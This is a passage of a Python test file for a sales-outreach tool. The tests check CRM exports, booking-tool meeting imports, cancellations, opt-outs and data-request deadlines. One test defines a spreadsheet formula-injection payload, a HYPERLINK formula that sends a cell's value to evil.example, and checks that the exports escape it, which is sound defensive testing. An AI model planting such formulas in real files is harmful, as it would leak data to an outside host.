                      "Lead Status", "Outbound Play", "Outbound Signal"):
            assert row[field], (field, row)
    by_email = {r["Email"]: r for r in contacts}
    assert by_email[meeting["contact_email"]]["Lifecycle Stage"] == "salesqualifiedlead"
    columns, notes = read("hubspot_notes.csv")
    assert tuple(columns) == crm.HUBSPOT_NOTE_COLUMNS
    for note in notes:
        assert note["Email"] in by_email and note["Activity date"].endswith("Z")
        assert queue_reply(queue, note["Email"]) in note["Note body"]

    columns, leads = read("salesforce_leads.csv")
    assert tuple(columns) == crm.SALESFORCE_LEAD_COLUMNS and len(leads) == len(queue)
    for lead in leads:
        for field in ("FirstName", "LastName", "Email", "Company", "Title", "Status", "Rating", "LeadSource",
                      "Description", "SDR_Play__c"):
            assert lead[field], (field, lead)
        assert lead["Status"] in ("Open - Not Contacted", "Working - Contacted", "Closed - Not Converted")
    columns, generic = read("escalations_crm.csv")
    assert tuple(columns) == crm.CSV_COLUMNS
    assert {r["outcome"] for r in generic if r["email"] == meeting["contact_email"]} == {"meeting"}
    assert [r for r in generic if r["meeting_booked_at"]] and all(r["thread"] for r in generic)

    _ok(world, "export", "crm", "--format", "csv", "--out", str(out), "--since", "2026-12-01")
    assert read("escalations_crm.csv")[1] == [], "nothing happened since December"


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Interested - click for my calendar")'


def test_no_cell_a_prospect_wrote_runs_as_a_formula_in_the_escalations_and_crm_files(world):
    interested = _by_label(_queue(world), "interested")[0]
    _reply_again(world, interested, FORMULA, datetime(2026, 11, 24, 16, tzinfo=UTC))
    stranger = EmailMessage()
    mailbox_address = _send_of(world, interested)["mailbox"]
    stranger["From"], stranger["To"], stranger["Subject"] = "=2+5@evil.example", mailbox_address, "Re: hello"
    stranger["Date"] = format_datetime(datetime(2026, 11, 24, 16, tzinfo=UTC))
    stranger["Message-ID"] = "<f@evil.example>"
    stranger["In-Reply-To"] = "<anything@evil.example>"
    stranger.set_content("Yes, very interested. Can we set up a call this week?")
    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(stranger)
    now = "2026-11-24T16:30:00+00:00"
    _replies(world, now)
    out = world / "crm"
    for fmt in ("hubspot", "salesforce", "csv"):
        _ok(world, "export", "crm", "--format", fmt, "--out", str(out), now=now)
    cells = {}
    for path in (world / "exports" / "escalations.csv", *sorted(out.glob("*.csv"))):
        with path.open(newline="", encoding="utf-8") as fh:
            cells[path.name] = [v for row in csv.reader(fh) for v in row]
    assert set(cells) == {"escalations.csv", "hubspot_contacts.csv", "hubspot_notes.csv", "salesforce_leads.csv",
                          "escalations_crm.csv", "hubspot_other_addresses.csv", "salesforce_other_addresses.csv"}
    for name, values in cells.items():
        assert not [v for v in values if v[:1] in ("=", "+", "-", "@", "\t", "\r")], name
    assert "'" + FORMULA in cells["escalations.csv"] and "'=2+5" in cells["escalations.csv"]
    for name in ("hubspot_contacts.csv", "salesforce_leads.csv", "escalations_crm.csv"):
        assert "'=2+5@evil.example" in cells[name] and "'=2+5" in cells[name], name


def test_a_reply_without_a_readable_date_still_exports_to_hubspot(world):
    sent = _unanswered_send(world)
    msg = reply_to(sent, "Yes, very interested. Can we set up a call this week?", datetime(2026, 11, 24, 9, tzinfo=UTC),
                   message_id="<undated@mail.example>")
    msg.replace_header("Date", "Mon, 23 Nov 2026 25:99:00 +0000")
    mailbox.Maildir(build_resources(_env(world))["mailbox"].path, create=True).add(msg)
    _replies(world)
    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
    assert row["received_at"] is None and row["first_reply_at"] is None
    out = world / "crm"
    _ok(world, "export", "crm", "--format", "hubspot", "--out", str(out))
    with (out / "hubspot_notes.csv").open(newline="", encoding="utf-8") as fh:
        dates = {n["Email"]: n["Activity date"] for n in csv.DictReader(fh)}
    assert dates[sent["contact_email"]] == f"{row['escalated_at'].astimezone(UTC):%Y-%m-%dT%H:%M:%SZ}"


def test_a_courtesy_reply_after_a_booked_meeting_keeps_the_lead_where_the_meeting_put_it(world):
    interested = _by_label(_queue(world), "interested")[0]
    _ok(world, "handled", interested["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")
    _reply_again(world, interested, "Great, thanks! See you Thursday.", datetime(2026, 11, 24, 16, tzinfo=UTC))
    now = "2026-11-24T16:30:00+00:00"
    _replies(world, now)
    row = _queue(world, now)[interested["escalation_id"]]
    assert (row["status"], row["outcome"], row["last_outcome"], row["reopened"]) == ("open", None, "meeting", True)
    out = world / "crm"
    exported = {}
    for fmt, name, email in (("hubspot", "hubspot_contacts.csv", "Email"),
                             ("salesforce", "salesforce_leads.csv", "Email"), ("csv", "escalations_crm.csv", "email")):
        _ok(world, "export", "crm", "--format", fmt, "--out", str(out), now=now)
        with (out / name).open(newline="", encoding="utf-8") as fh:
            exported[fmt] = next(r for r in csv.DictReader(fh) if r[email] == interested["contact_email"])
    assert (exported["hubspot"]["Lifecycle Stage"], exported["hubspot"]["Lead Status"]) == (
        "salesqualifiedlead", "CONNECTED")
    assert (exported["salesforce"]["Status"], exported["salesforce"]["Rating"]) == ("Working - Contacted", "Hot")
    assert "(earlier outcome: meeting)" in exported["csv"]["thread"] and exported["csv"]["meeting_booked_at"]


def queue_reply(queue: dict[str, dict], email: str) -> str:
    row = next(r for r in queue.values() if r["contact_email"] == email)
    return row["reply_text"].strip().splitlines()[0]


def test_a_crm_export_to_a_folder_that_cannot_be_made_is_one_error_line(tmp_path):
    (tmp_path / "a-file").write_text("not a folder")
    out = tmp_path / "a-file" / "crm"
    result = _sdr(tmp_path, "export", "crm", "--format", "csv", "--out", str(out))
    assert result.exit_code == 1, result.output
    assert result.output == f"error: cannot write {out}: Not a directory\n"


def test_a_date_beyond_the_calendar_in_utc_is_one_error_line(tmp_path):
    for args in (("snooze", "k3v9qa", "--by", "Sam Lee", "--until", "9999-12-31T23:00:00-05:00"),
                 ("export", "crm", "--format", "csv", "--since", "0001-01-01T00:30:00+01:00")):
        result = _sdr(tmp_path, *args)
        assert result.exit_code == 1 and not isinstance(result.exception, OverflowError), result.exception
        assert result.output.startswith("error: '") and result.output.count("\n") == 1, result.output


def test_booked_meetings_import_from_a_booking_tool_and_show_in_status(world):
    queue = _queue(world)
    interested = _by_label(queue, "interested")[0]
    _ok(world, "handled", interested["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")
    other = _by_label(queue, "question")[0]
    export = world / "calendly.csv"
    export.write_text(
        "Invitee Name,Invitee Email,Start Date & Time,Event Type Name,Canceled,Invitee UUID\n"
        f"A,{interested['contact_email']},2026-11-27 10:00 am,Intro,false,u1\n"
        f"B,{other['contact_email'].upper()},2026-11-27 2:30 pm,Intro,false,u2\n"
        "C,stranger@nowhere.example,2026-11-27 3:00 pm,Intro,false,u3\n"
        f"D,{other['contact_email']},2026-11-28 9:00 am,Intro,true,u4\n")
    output = _ok(world, "meetings", "import", str(export), "--by", "Sam Lee")
    assert "Meetings added: 1, already recorded: 1, quarantined: 2" in output
    webhook = world / "hooks.jsonl"
    webhook.write_text(json.dumps({"triggerEvent": "BOOKING_CREATED", "payload": {
        "uid": "cal-1", "startTime": "2026-11-30T15:00:00Z", "attendees": [{"email": other["contact_email"]}]}}) + "\n"
        + json.dumps({"event": "invitee.created", "payload": {"email": other["contact_email"], "uri": "inv-9",
                      "scheduled_event": {"start_time": "2026-12-02T09:00:00.000000Z"}}}) + "\nnot json\n")
    output = _ok(world, "meetings", "import", str(webhook), "--by", "Sam Lee")
    assert "Meetings added: 0, already recorded: 2, quarantined: 1" in output, "one meeting per conversation"
    latin1 = world / "export-latin1.csv"
    latin1.write_bytes(f"Invitee Email,Start Date & Time\nRené,{other['contact_email']},2026-11-27 10:00 am\n"
                       .encode("latin-1"))
    refused = _sdr(world, "meetings", "import", str(latin1), "--by", "Sam Lee")
    assert refused.exit_code == 1 and refused.output.count("\n") == 1, refused.output
    assert "is not UTF-8 text (byte 35): export or save it as UTF-8" in refused.output
    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
    assert sorted((m["escalation_id"], m["source"]) for m in meetings) == sorted([
        (interested["escalation_id"], "escalation"), (other["escalation_id"], "import:calendly.csv")])
    status = json.loads(_ok(world, "status", "--json"))
    assert status["meetings"]["total"] == 2
    assert "Meetings booked: 2" in _ok(world, "status")
    with build_resources(_env(world))["warehouse"].connect() as con:
        reasons = sorted(r for (r,) in con.execute("select reason from quarantined_meeting_rows").fetchall())
    assert reasons == ["attendee is not a contact we wrote to", "canceled booking, no meeting recorded under its id",
                       "not JSON: Expecting value"]


def test_a_contact_who_opts_out_after_her_reply_gets_no_suggested_answer_and_is_handed_over_as_opted_out(world):
    interested = _by_label(_queue(world), "interested")
    jane, other = interested[0], interested[1]
    assert jane["suggested_response"], "precondition: an answer is suggested"
    optout_log.append(build_resources(_env(world))["paths"].data_dir, "k" * 24, jane["contact_email"],
                      datetime(2026, 11, 24, 14, tzinfo=UTC))  # her click, not yet recorded by a replies run

    rows = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json"))["escalations"]}
    assert (rows[jane["escalation_id"]]["suppressed"], rows[jane["escalation_id"]]["suggested_response"]) == (
        "unsubscribe_link", None)
    assert rows[other["escalation_id"]]["suppressed"] is None and rows[other["escalation_id"]]["suggested_response"]
    assert f"May no longer be mailed (opted out, complained or suppressed since): {jane['escalation_id']}" in _ok(
        world, "inbox")
    assert "may no longer be mailed (unsubscribe_link). Close it:" in _ok(world, "thread", jane["escalation_id"])
    _ok(world, "handled", jane["escalation_id"], "--by", "Sam Lee", "--outcome", "opted_out")
    closed = _ok(world, "thread", jane["escalation_id"])
    assert "may no longer be mailed (unsubscribe_reply)." in closed and "Close it:" not in closed

    out = world / "crm"
    _ok(world, "export", "crm", "--format", "hubspot", "--out", str(out))
    with open(out / "hubspot_contacts.csv", newline="", encoding="utf-8") as fh:
        status = {r["Email"]: (r["Lifecycle Stage"], r["Lead Status"]) for r in csv.DictReader(fh)}
    assert status[jane["contact_email"]] == crm.OUTCOME_MAP["opted_out"][:2]
    assert status[other["contact_email"]] != crm.OUTCOME_MAP["opted_out"][:2]


def _meetings_counted(resources: dict, play: str, table: str = "reply_performance") -> int:
    """The play's meetings as ``reply_performance`` (or ``outreach_funnel``) counts them, materialised now."""
    from sdr_assets.performance import outreach_funnel, reply_performance

    with memory_instance() as instance:
        assert dg.materialize([reply_performance, outreach_funnel], resources=resources, instance=instance).success
    with resources["warehouse"].connect() as con:
        return con.execute(f"select sum(meetings) from {table} where play = ?", [play]).fetchone()[0]


def test_a_rescheduled_booking_of_a_contact_without_an_escalation_is_one_meeting(world):
    sent = _unanswered_send(world)
    export = world / "calendly-export.csv"
    export.write_text("Invitee Email,Start Date & Time,Canceled,Invitee UUID\n"
                      f"{sent['contact_email']},2026-11-25 10:00 am,false,uuid-1\n"
                      f"{sent['contact_email'].upper()},2026-11-26 02:00 pm,false,uuid-2\n")
    assert "Meetings added: 1, already recorded: 1, quarantined: 0" in _ok(world, "meetings", "import", str(export),
                                                                           "--by", "Sam Lee")
    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
    assert [(m["contact_email"], m["play"], m["escalation_id"]) for m in meetings] == [
        (sent["contact_email"], sent["play"], None)]

    # A warehouse written before imports were matched by contact may name one conversation twice.
    resources = build_resources(_env(world))
    with resources["warehouse"].connect() as con:
        con.execute("insert into meetings values ('m-older', ?, ?, ?, 'import:older.csv', 'Sam Lee', null)",
                    [sent["contact_email"], sent["play"], datetime(2026, 11, 26, 14, tzinfo=UTC)])
    assert _meetings_counted(resources, sent["play"]) == 1


def _booked_before_replying(world: Path) -> dict:
    """A contact who booked through the calendar link (imported), then replied: her send."""
    sent = _unanswered_send(world)
    export = world / "bookings.csv"
    export.write_text(f"Invitee Email,Start Date & Time,Canceled,Invitee UUID\n"
                      f"{sent['contact_email']},2026-11-27 10:00 am,false,uuid-early\n")
    assert "Meetings added: 1" in _ok(world, "meetings", "import", str(export), "--by", "Sam Lee")
    _add(world, reply_to(sent, "Booked a slot already - looking forward to it. Can we talk next week?",
                         datetime(2026, 11, 24, 9, tzinfo=UTC), message_id="<booked-first@mail.example>"))
    _replies(world)
    return sent


def test_a_booking_imported_before_the_reply_and_the_meeting_handled_after_are_one_meeting(world):
    sent = _booked_before_replying(world)
    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
    _ok(world, "handled", row["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")

    status = json.loads(_ok(world, "status", "--json"))
    assert status["meetings"] == {"total": 1, "by_play": {sent["play"]: 1}}
    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
    assert [(m["contact_email"], m["escalation_id"], m["source"]) for m in meetings] == [
        (sent["contact_email"], row["escalation_id"], "import:bookings.csv")], "the import is the conversation's"

    # A warehouse written before both paths met holds the conversation's meeting twice: still one.
    resources = build_resources(_env(world))
    with resources["warehouse"].connect() as con:
        con.execute("insert into meetings values ('m-twice', ?, ?, ?, 'escalation', 'Sam Lee', ?)",
                    [sent["contact_email"].upper(), sent["play"], datetime(2026, 11, 24, 15, tzinfo=UTC),
                     row["escalation_id"]])
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["total"] == 1
    assert "Meetings booked: 1" in _ok(world, "status")
    assert _meetings_counted(resources, sent["play"]) == 1


def _hubspot_contact(root: Path, email: str) -> dict:
    out = root / "crm"
    _ok(root, "export", "crm", "--format", "hubspot", "--out", str(out))
    with (out / "hubspot_contacts.csv").open(newline="", encoding="utf-8") as fh:
        return next(r for r in csv.DictReader(fh) if r["Email"] == email)


def test_a_booking_imported_before_the_reply_is_handed_over_to_the_crm_as_a_meeting(world):
    sent = _booked_before_replying(world)
    contact = _hubspot_contact(world, sent["contact_email"])
    assert (contact["Lifecycle Stage"], contact["Lead Status"]) == ("salesqualifiedlead", "CONNECTED"), contact


@pytest.fixture(scope="module")
def canceled_booking(answered_world: Path, tmp_path_factory) -> tuple[Path, dict]:
    """A copy of the answered world in which an interested contact's booking was imported, then its
    cancelation: kept on record and counted as no meeting anywhere. The folder and her escalation."""
    world = shutil.copytree(answered_world, tmp_path_factory.mktemp("canceled") / "world")
    interested = _by_label(_queue(world), "interested")[0]
    email, play = interested["contact_email"], interested["play"]
    header = "Invitee Email,Start Date & Time,Canceled,Invitee UUID\n"
    booked, canceled, rebooked = (world / f"export-{day}.csv" for day in ("tue", "wed", "thu"))
    booked.write_text(header + f"{email},2026-11-30 10:00 am,false,uuid-1\n")
    canceled.write_text(header + f"{email},2026-11-30 10:00 am,true,uuid-1\n"
                        "stranger@nowhere.example,2026-11-30 11:00 am,true,uuid-9\n")
    rebooked.write_text(header + f"{email},2026-12-02 09:00 am,false,uuid-2\n")
    assert "Meetings added: 1" in _ok(world, "meetings", "import", str(booked), "--by", "Sam Lee")
    output = _ok(world, "meetings", "import", str(canceled), "--by", "Sam Lee")
    assert "Meetings added: 0, already recorded: 0, quarantined: 1" in output
    assert "Meetings canceled: 1" in output and "line 3: canceled booking, no meeting recorded under its id" in output
    again = _ok(world, "meetings", "import", str(canceled), "--by", "Sam Lee")
    assert "already recorded: 1" in again and "Meetings canceled" not in again

    (meeting,) = json.loads(_ok(world, "meetings", "list", "--json"))
    assert (meeting["contact_email"], meeting["source"]) == (email, "import:export-tue.csv")
    assert meeting["canceled_at"] and meeting["canceled_by"] == "Sam Lee", "kept on record, as canceled"
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"].get(play, 0) == 0
    resources = build_resources(_env(world))
    assert _meetings_counted(resources, play) == _meetings_counted(resources, play, "outreach_funnel") == 0
    contact = _hubspot_contact(world, email)
    assert (contact["Lifecycle Stage"], contact["Lead Status"]) == ("lead", "NEW"), contact
    return world, interested


@pytest.mark.parametrize("met_again", ["booked again", "handed off as a meeting"])
def test_a_canceled_booking_stays_on_record_but_is_no_meeting_anywhere(canceled_booking, tmp_path, met_again):
    """Met again after the cancelation (``canceled_booking``), by a new booking or a hand-off, she
    has one meeting, and the canceled one stays on record."""
    world, interested = shutil.copytree(canceled_booking[0], tmp_path / "world"), canceled_booking[1]
    email, play = interested["contact_email"], interested["play"]
    if met_again == "booked again":
        assert "Meetings added: 1" in _ok(world, "meetings", "import", str(world / "export-thu.csv"), "--by", "Sam Lee")
    else:
        _ok(world, "handled", interested["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"][play] == 1
    assert len(json.loads(_ok(world, "meetings", "list", "--json"))) == 2, "the canceled one stays on record"
    assert _hubspot_contact(world, email)["Lifecycle Stage"] == "salesqualifiedlead"


def test_a_reschedule_in_one_webhook_dump_keeps_the_new_booking_as_the_meeting(world):
    """Calendly sends a reschedule as the old invitee canceled and a new one created."""
    sent = _unanswered_send(world)

    def hook(event: str, uri: str, start: str) -> str:
        return json.dumps({"event": event, "payload": {"email": sent["contact_email"], "uri": uri,
                                                      "scheduled_event": {"start_time": start}}})

    dump = world / "hooks.jsonl"
    dump.write_text("\n".join([hook("invitee.created", "inv-1", "2026-11-30T10:00:00Z"),
                               hook("invitee.canceled", "inv-1", "2026-11-30T10:00:00Z"),
                               hook("invitee.created", "inv-2", "2026-12-01T15:00:00Z")]) + "\n")
    output = _ok(world, "meetings", "import", str(dump), "--by", "Sam Lee")
    assert "Meetings added: 1, already recorded: 0, quarantined: 0" in output and "Meetings canceled: 1" in output
    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
    assert [(m["booked_at"][:10], bool(m["canceled_at"])) for m in meetings] == [
        ("2026-11-30", True), ("2026-12-01", False)]
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"] == {sent["play"]: 1}
    assert "already recorded: 3" in _ok(world, "meetings", "import", str(dump), "--by", "Sam Lee")


def test_a_booking_under_the_address_she_replied_from_is_her_meeting_everywhere(world):
    """She answered from a tagged address in other letters; the booking tool knows only that one."""
    sent = _unanswered_send(world)
    local, domain = sent["contact_email"].split("@")
    replied_from = f"{local.title()}+cal@{domain}"
    reply = reply_to(sent, "Thanks, this is timely. Can we talk next week?", datetime(2026, 11, 24, 9, tzinfo=UTC),
                     message_id="<tagged@mail.example>")
    reply.replace_header("From", replied_from)
    _add(world, reply)
    _replies(world)
    row = next(r for r in _queue(world).values() if r["contact_email"] == sent["contact_email"])
    assert row["from_addr"].lower() == replied_from.lower()
    export = world / "cal.csv"
    export.write_text(f"Invitee Email,Start Date & Time,Canceled\n{replied_from},2026-12-10 15:00,false\n")
    assert "Meetings added: 1" in _ok(world, "meetings", "import", str(export), "--by", "Sam Lee")
    meetings = json.loads(_ok(world, "meetings", "list", "--json"))
    assert [(m["contact_email"], m["escalation_id"]) for m in meetings] == [(sent["contact_email"], row["escalation_id"])]
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"] == {sent["play"]: 1}
    resources = build_resources(_env(world))
    assert _meetings_counted(resources, sent["play"]) == _meetings_counted(resources, sent["play"], "outreach_funnel") == 1

    # A warehouse written before imports resolved the address keeps it: still her one meeting.
    with resources["warehouse"].connect() as con:
        con.execute("update meetings set contact_email = ?", [replied_from])
        con.execute("insert into meetings values ('m-again', ?, ?, ?, 'escalation', 'Sam Lee', ?)",
                    [sent["contact_email"], sent["play"], datetime(2026, 12, 10, 15, tzinfo=UTC), row["escalation_id"]])
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"] == {sent["play"]: 1}
    assert _meetings_counted(resources, sent["play"]) == _meetings_counted(resources, sent["play"], "outreach_funnel") == 1


def test_routing_in_the_play_file_assigns_owners_without_changing_the_version(world):
    plays = world / "plays" / "revops-hiring.yaml"
    before = _ok(world, "plays", "list", "--json")
    queue = _queue(world)
    countries = sorted({r["country"] for r in queue.values() if r["play"] == "revops-hiring"})
    plays.write_text(plays.read_text() + "routing:\n  owner: Ravi Kumar\n  segments:\n"
                     f"    - countries: [{countries[0]}]\n      owner: Mia Chen\n")
    assert _ok(world, "plays", "list", "--json") == before, "routing is outside the version hash"
    _replies(world)
    for r in _queue(world).values():
        if r["play"] == "revops-hiring":
            assert r["owner"] == ("Mia Chen" if r["country"] == countries[0] else "Ravi Kumar"), r
    mine = json.loads(_ok(world, "inbox", "--json", "--mine", "Mia Chen"))["escalations"]
    assert mine and all(r["owner"] == "Mia Chen" for r in mine)


def test_a_warehouse_from_before_the_queue_is_rebuilt_into_it(world):
    queue = _queue(world)
    with build_resources(_env(world))["warehouse"].connect() as con:
        con.execute("drop table escalations")
        con.execute("drop table escalation_events")
        con.execute("create table escalations (message_id varchar, play varchar, contact_email varchar, "
                    "label varchar, proposed_contacts varchar, received_at timestamptz)")
        con.execute("insert into escalations values ('<m@x>', 'revops-hiring', 'a@b.example', 'interested', '', now())")
    assert _queue(world) == {}, "the old layout reads as an empty queue, not a crash"
    _replies(world)
    assert sorted(_queue(world)) == sorted(queue), "same threads, same ids"


def test_the_queue_bench_prints_its_figures(capsys):
    from sdr_assets.inbox_bench import main

    main(["--escalations", "60"])
    out = capsys.readouterr().out
    assert "60 escalations" in out and "export crm --format salesforce" in out


def _escalations_run(root: Path, now: str, config: dict | None = None) -> tuple[dict, str, list[tuple]]:
    from sdr_assets.escalations import escalations

    resources = build_resources(_env(root, now))
    run_config = {"ops": {"escalations": {"config": config}}} if config else None
    with memory_instance() as instance:
        result = dg.materialize([escalations], resources=resources, instance=instance, run_config=run_config)
    event = result.get_asset_materialization_events()[0]
    with resources["warehouse"].connect() as con:
        rows = con.execute("select * exclude (updated_at) from escalations order by escalation_id").fetchall()
    return ({k: v.value for k, v in event.materialization.metadata.items()},
            (root / "exports" / "escalations.csv").read_text(), rows)


def test_the_rows_are_built_again_only_for_a_change_and_the_queue_is_written_every_run(world):
    rows = _escalations_run(world, LATER, {"full_refresh": True})[2]
    again, csv_again, same = _escalations_run(world, "2026-11-24T15:30:00+00:00")
    assert again["rebuilt"].startswith("no") and same == rows
    later, csv_later, _ = _escalations_run(world, "2026-11-24T16:30:00+00:00")
    assert later["rebuilt"].startswith("no") and csv_later != csv_again, "waiting times move with the clock"
    forced = _escalations_run(world, "2026-11-24T16:30:00+00:00", {"full_refresh": True})
    assert forced[0]["rebuilt"] == "yes" and forced[2] == rows

    _ok(world, "claim", sorted(_queue(world))[0], "--by", "Dana Whitfield")
    assert _escalations_run(world, "2026-11-24T16:00:00+00:00")[0]["rebuilt"] == "yes", "a person's action is seen"
    objection = _by_label(_queue(world), "objection")[0]
    _reply_again(world, objection, "Actually, timing is good now. Can we talk Tuesday at 2pm?",
                 datetime(2026, 11, 24, 16, tzinfo=UTC))
    _replies(world, "2026-11-24T17:00:00+00:00")
    assert _queue(world, "2026-11-24T17:00:00+00:00")[objection["escalation_id"]]["label"] == "interested"


def test_rows_stored_in_an_earlier_layout_are_built_again_in_the_current_one(world, monkeypatch):
    """The rows' columns are part of what they are built from: a warehouse whose rows were stored
    without a column the code now writes gets them built again, with it, though no reply changed."""
    import sdr_assets.escalations as module

    current = dict(module.ESCALATION_SCHEMA)
    monkeypatch.setattr(module, "ESCALATION_SCHEMA",
                        {k: v for k, v in current.items() if k != "may_ask_to_stop"})
    earlier = _escalations_run(world, LATER, {"full_refresh": True})
    assert earlier[0]["rebuilt"] == "yes"
    monkeypatch.setattr(module, "ESCALATION_SCHEMA", current)
    again = _escalations_run(world, "2026-11-24T15:30:00+00:00")[0]
    assert again["rebuilt"] == "yes"
    assert _escalations_run(world, "2026-11-24T15:45:00+00:00")[0]["rebuilt"].startswith("no")
    assert {r["may_ask_to_stop"] for r in _queue(world).values()} == {False}


def _answers(root: Path) -> dict[str, str]:
    with build_resources(_env(root))["warehouse"].connect() as con:
        return dict(con.execute("select escalation_id, suggested_response from escalations").fetchall())


def test_open_escalations_get_the_answer_of_new_rules_once_and_handled_ones_keep_theirs(world, monkeypatch):
    """Rules that changed since an open escalation's answer was written (they no longer let an
    answer invent other customers or a timeframe) write it again on the next run, with no new
    reply; a handled one keeps the answer it was handled with, and a second run changes nothing."""
    import sdr_assets.escalations as module

    current = module.answer_digest
    monkeypatch.setattr(module, "answer_digest", lambda: "earlier rules")
    _escalations_run(world, LATER, {"full_refresh": True})
    written = _answers(world)
    answered = sorted(e for e, text in written.items() if text)
    opened, handled = answered[:2]
    invented = "Most teams we work with ran something similar before. Shall we talk next quarter?"
    with build_resources(_env(world))["warehouse"].connect() as con:
        con.execute("update escalations set suggested_response = ? where escalation_id in (?, ?)",
                    [invented, opened, handled])
    _ok(world, "handled", handled, "--by", "Priya Raman", "--outcome", "nurture")
    assert _escalations_run(world, "2026-11-24T15:10:00+00:00")[0]["rebuilt"] == "yes"
    assert _answers(world)[opened] == invented, "under the rules that wrote it, an answer stands"

    monkeypatch.setattr(module, "answer_digest", current)
    upgraded = _escalations_run(world, "2026-11-24T15:20:00+00:00")
    answers = _answers(world)
    assert answers[opened] == written[opened] and invented not in answers[opened]
    assert answers[handled] == invented
    assert upgraded[0]["answers_written"] == sum(
        1 for e in answered if e != handled and _queue(world)[e]["status"] != "handled")
    again = _escalations_run(world, "2026-11-24T15:30:00+00:00")
    assert again[0]["rebuilt"].startswith("no") and again[2] == upgraded[2]


def test_answers_left_for_the_models_budget_are_not_counted_as_written(world, monkeypatch):
    """An answer the model's budget left (the offline one, not final) waits for the next run: the
    run's metadata counts it as waiting, and only the final answers as written."""
    import sdr_assets.escalations as module

    original = module.suggested_answers

    def half_left(model, conversations, cache=None):
        return [(text, final and i % 2 == 0) for i, (text, final) in enumerate(original(model, conversations, cache))]

    monkeypatch.setattr(module, "suggested_answers", half_left)
    monkeypatch.setattr(module, "answer_digest", lambda: "other rules")
    metadata = _escalations_run(world, LATER, {"full_refresh": True})[0]
    waiting, written = metadata["answers_asked_again_next_run"], metadata["answers_written"]
    assert waiting >= 1 and written >= 1
    assert written in (waiting, waiting + 1)
    assert metadata["rebuilt"].startswith("yes, and again next run")

def test_a_canceled_booking_cancels_the_meeting_a_hand_off_recorded_for_it(world):
    """The rep handed the conversation off as a meeting; the tool's export of that booking found it
    recorded, and its cancellation later takes that meeting off the books."""
    interested = _by_label(_queue(world), "interested")[0]
    email, play = interested["contact_email"], interested["play"]
    header = "Invitee Email,Start Date & Time,Canceled,Invitee UUID\n"
    booked, canceled = world / "export-hand-off.csv", world / "export-canceled.csv"
    booked.write_text(header + f"{email},2026-11-30 10:00 am,false,uuid-7\n")
    canceled.write_text(header + f"{email},2026-11-30 10:00 am,true,uuid-7\n")
    _ok(world, "handled", interested["escalation_id"], "--by", "Sam Lee", "--outcome", "meeting")
    assert "already recorded: 1" in _ok(world, "meetings", "import", str(booked), "--by", "Sam Lee")
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"][play] == 1

    output = _ok(world, "meetings", "import", str(canceled), "--by", "Sam Lee")
    assert "Meetings canceled: 1" in output and "quarantined: 0" in output, output
    assert json.loads(_ok(world, "status", "--json"))["meetings"]["by_play"].get(play, 0) == 0


def test_an_opt_out_that_asks_for_her_data_is_suppressed_and_left_to_a_person_to_answer(world):
    """"Unsubscribe me. How did you get my email address?": the opt-out is recorded with nobody to decide
    it, and the conversation waits for a person to answer the data request, with no answer suggested."""
    interested = _by_label(_queue(world), "interested")
    hostile, plain = interested[0], interested[1]
    _reply_again(world, hostile, "Unsubscribe me. How did you get my email address?",
                 datetime(2026, 11, 25, 10, tzinfo=UTC))
    _reply_again(world, plain, "Remove me and tell me what data you hold on me under GDPR",
                 datetime(2026, 11, 25, 11, tzinfo=UTC))
    after_now = "2026-11-25T12:00:00+00:00"
    _replies(world, after_now)
    rows = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json", now=after_now))["escalations"]}
    for asked in (hostile, plain):
        row = rows[asked["escalation_id"]]
        assert (row["label"], row["sub_reason"], row["may_ask_to_stop"]) == ("unsubscribe", esc.DATA_REQUEST, False)
        assert not row["suggested_response"] and row["suppressed"] == "unsubscribe_reply"
        shown = " ".join(_ok(world, "thread", asked["escalation_id"], now=after_now).split())
        assert "asks where we got her data, for a copy of it or for its erasure: answer it yourself" in shown


def test_a_data_request_carries_its_month_in_the_inbox_and_the_status_counts_it_overdue_only_past_it(world):
    """"Please erase my details." alone: her opt-out is recorded, and the request is due a calendar month
    after it arrived; inside that month it waits, after it the inbox and the status say it is overdue."""
    erasure, access = _by_label(_queue(world), "interested")[:2]
    _reply_again(world, erasure, "Please erase my details.", datetime(2026, 11, 25, 10, tzinfo=UTC))
    _reply_again(world, access, "Which data do you have about me?", datetime(2026, 11, 25, 11, tzinfo=UTC))
    within, past = "2026-11-25T12:00:00+00:00", "2026-12-26T09:00:00+00:00"
    _replies(world, within)
    rows = {r["escalation_id"]: r for r in json.loads(_ok(world, "inbox", "--json", now=within))["escalations"]}
    for asked in (erasure, access):
        row = rows[asked["escalation_id"]]
        assert (row["sub_reason"], row["data_request_due"], row["data_request_overdue"]) == (
            esc.DATA_REQUEST, "2026-12-25", False)
    assert (rows[erasure["escalation_id"]]["label"], rows[erasure["escalation_id"]]["suppressed"]) == (
        "unsubscribe", "unsubscribe_reply"), "an erasure request stops her mail with nobody to record it"
    assert "2026-12-25" in _ok(world, "inbox", now=within)
    # The exports a person or a CRM reads carry the due date too, and only on the requests.
    with open(world / "exports" / "escalations.csv", newline="") as fh:
        due = {r["escalation_id"]: r["data_request_due"] for r in csv.DictReader(fh)}
    assert due[erasure["escalation_id"]] == due[access["escalation_id"]] == "2026-12-25", due
    assert sum(bool(d) for d in due.values()) == 2, due
    assert "answer it yourself within a month (by 2026-12-25)" in " ".join(
        _ok(world, "thread", access["escalation_id"], now=within).split())
    queue = json.loads(_ok(world, "status", "--json", now=within))["escalation_queue"]
    assert (queue["data_requests_open"], queue["data_requests_overdue"]) == (2, 0)
